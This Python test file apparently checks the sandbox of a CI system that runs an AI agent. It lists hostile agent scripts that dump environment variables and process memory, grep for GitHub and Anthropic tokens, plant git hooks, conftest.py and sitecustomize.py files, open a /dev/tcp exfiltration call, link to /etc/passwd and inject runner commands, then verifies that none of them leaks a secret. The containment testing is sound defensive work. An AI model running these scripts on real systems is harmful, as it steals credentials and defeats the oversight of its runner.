"""Agents that want the secrets of the job they work in, and what becomes of each.

Each is a script that runs in the agent's role as the agent does, with a model's key and a token
near by. What it can find it writes into its change, plainly and in hexadecimal digits.
"""

import json
import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from typing import Final

from tests.action.workflow import BOT, KEY, TOY, Done, Runner, comment, toy
from tests.forge.hub import Hub
from tests.run import run
from tests.system.user import TESTS, station

CONFIG: Final = (
    "version = 1\n"
    + station(
        "code",
        scope=["jobs/**"],
        agent={"runtime": "command", "run": ["sh", "agent.sh"]},
        attempts=1,
    )
    + TESTS
)
_KEEP: Final = """
keep() { { tr '\\0\\033' '\\n\\n' | tr -cd '\\n\\040-\\176'; } > /tmp/loot
         cat /tmp/loot >> jobs/new.txt; od -An -v -tx1 /tmp/loot >> jobs/new.txt; }
echo "by $FACTORY_JOB" > jobs/new.txt
"""
_HOOK: Final = "#!/bin/sh\\nenv > /tmp/loot; cat /tmp/loot > jobs/new.txt\\n"


@dataclass(frozen=True, slots=True, kw_only=True)
class Attack:
    """What an agent tries; ``PORT`` in its script is where somebody listens on this machine.

    ``ends`` begins the reason with which it is refused; empty where a harmless change comes out.
    """

    name: str
    script: str
    ends: str = ""


ATTACKS: Final = (
    Attack(name="its environment", script="env | keep; cat /proc/self/environ | keep"),
    Attack(
        name="the environment of others",
        script="for p in /proc/[0-9]*; do cat $p/environ $p/cmdline 2>/dev/null; done | keep",
    ),
    Attack(
        name="the memory of others",
        script="for p in /proc/[0-9]*; do head -c 100000 $p/mem 2>/dev/null; done | keep",
    ),
    Attack(
        name="git's configuration",
        script="cat .git/config .git/*/config ~/.gitconfig | keep; git config -l | keep",
    ),
    Attack(
        name="files of the runner",
        script='for d in "$HOME" /home /root /tmp /run /var "$PWD/.."; do grep -rhs'
        " -e ghs_ -e sk-ant- $d; done | head -c 100000 | keep",
    ),
    Attack(
        name="a hook by core.hooksPath",
        script="mkdir -p /tmp/h jobs/h; "
        f"for n in pre-commit post-commit reference-transaction; do printf '{_HOOK}' > /tmp/h/$n;"
        " chmod +x /tmp/h/$n; done; git config core.hooksPath /tmp/h;"
        " echo x | keep; git add jobs/new.txt; git commit -qm x; rm -rf jobs/h",
    ),
    Attack(
        name="core.fsmonitor",
        script=f"printf '{_HOOK}' > jobs/fs.sh; chmod +x jobs/fs.sh;"
        ' git config core.fsmonitor "$PWD/jobs/fs.sh"; git config core.pager "$PWD/jobs/fs.sh";'
        " echo x | keep",
    ),
    Attack(
        name="a conftest.py",
        script="printf 'import os\\nprint(os.environ)\\n' > conftest.py; echo x | keep",
    ),
    Attack(
        name="a sitecustomize.py",
        script="printf 'import os\\nprint(os.environ)\\n' > jobs/sitecustomize.py; echo x | keep",
        ends="waits for a person: protected: ",
    ),
    Attack(
        name="a call to the outside",
        script="for h in 127.0.0.1 localhost 10.0.2.2; do"
        ' timeout 2 bash -c "echo loot > /dev/tcp/$h/PORT" 2>/dev/null; done; echo x | keep',
    ),
    Attack(
        name="a link to the outside",
        script="ln -s /etc/passwd jobs/link",
        ends="the change was refused: mode: ",
    ),
    Attack(
        name="a submodule",
        script="git init -q jobs/sub; git -C jobs/sub commit -q --allow-empty -m x;"
        " git add jobs/sub; git commit -qm sub",
        ends="the change was refused: mode: ",
    ),
    Attack(
        name="a workflow",
        script="set -e; mkdir -p .github/workflows; echo 'on: push' > .github/workflows/x.yml",
        ends="exit ",
    ),
    Attack(
        name="ten thousand files",
        script="i=0; while [ $i -lt 10000 ]; do : > jobs/$i; i=$((i+1)); done",
        ends="the change was refused: count: ",
    ),
    Attack(
        name="a bomb",
        script="head -c 40000000 /dev/zero > jobs/zeros",
        ends="the change was refused: size: ",
    ),
    Attack(
        name="orders to the runner",
        script="echo '::set-output name=status::go'; echo '::add-mask::x'; env |"
        " sed 's/^/::notice::/'; echo x | keep; exit 3",
        ends="exit 3: ",
    ),
)


PLANTED: Final = Attack(
    name="a key that was told",
    script=f"echo {KEY} | keep",
    ends="the change was refused: text: ",
)
"""What shows that a secret would be found: the script itself holds it, and so the repository."""


@dataclass(frozen=True, slots=True, kw_only=True)
class Seen:
    """How it ended in the agent's role and in the writing one, and where a secret was found."""

    agent: Done
    apply: Done
    leaks: tuple[str, ...]
    calls: int
    """How often somebody called from the sandbox."""

    @property
    def ended(self) -> str:
        """Give one line: who ended it, and why."""
        last = self.agent if self.agent["status"] != "changed" else self.apply
        return f"{last['status']}: {last['why']}"


def attacked(attack: Attack, place: Path) -> Seen:
    """Let an attack play through the three roles, in a world of its own."""
    with Hub(place=place / "hub", begins=datetime.now(UTC)) as hub, _listening() as (port, calls):
        script = _KEEP + attack.script.replace("PORT", str(port)) + "\n"
        toy(hub, agent=script, **{"factory.toml": CONFIG})
        number = hub.act("octocat").open(TOY, "Add a file", "Please.")
        runner = Runner(hub=hub, place=place)
        gate = runner.role("gate", payload=comment(number, "/factory", hub))
        runner.check_out(gate["base-sha"])
        agent = runner.role("agent", pins=gate["pins"], provider_key=KEY)
        if agent["bundle-sha256"]:
            runner.carry()
        apply = runner.role(
            "apply",
            pins=gate["pins"],
            bundle_sha256=agent["bundle-sha256"],
            agent_status=agent["status"],
            agent_result="failure" if agent.code else "success",
        )
        return Seen(
            agent=agent,
            apply=apply,
            leaks=tuple(_leaks(hub, runner, (gate, agent, apply))),
            calls=len(calls),
        )


def _leaks(hub: Hub, runner: Runner, told: tuple[Done, ...]) -> Iterator[str]:
    secrets = [KEY, *runner.tokens.values()]
    forms = [form for secret in secrets for form in (secret.encode(), _hex(secret))]

    def holds(data: bytes) -> bool:
        digits = data.translate(None, b" \n")
        return any(form in data or form in digits for form in forms)

    for name, done in zip(("gate", "agent", "apply"), told, strict=True):
        if holds((done.log + done.summary + json.dumps(dict(done.outputs))).encode()):
            yield f"the log, summary or outputs of {name}"
    for file in runner.place.glob("*/temp/factory-bundle/*"):
        if file.is_file() and holds(file.read_bytes()):
            yield f"the bundle ({file.name})"
    repo = hub.repo(TOY)
    checkouts = [path.parent for path in runner.place.glob("*-agent/checkout/.git")]
    for bare in (repo.bare.path, *checkouts):
        words = ["git", "cat-file", "--batch", "--batch-all-objects"]
        if holds(run(words, cwd=bare, timeout=120).out):
            yield f"an object in {bare.name}"
    texts = [issue.title + (issue.body or "") for issue in repo.issues.values()]
    texts += [said.body for said in repo.comments.values() if said.author == BOT]
    texts += [f"{each.title}{each.summary}{each.text}" for each in repo.runs.values()]
    if holds("\0".join(texts).encode()):
        yield "a text on the forge"


def _hex(secret: str) -> bytes:
    return secret.encode().hex().encode()


@contextmanager
def _listening() -> Iterator[tuple[int, list[str]]]:
    """Listen on this machine, and note who calls."""
    calls: list[str] = []
    with socket.create_server(("127.0.0.1", 0)) as server:

        def listen() -> None:
            with suppress(OSError):
                while True:
                    link, who = server.accept()
                    calls.append(str(who))
                    link.close()

        thread = threading.Thread(target=listen, daemon=True)
        thread.start()
        try:
            yield server.getsockname()[1], calls
        finally:
            server.shutdown(socket.SHUT_RDWR)
            thread.join(5)
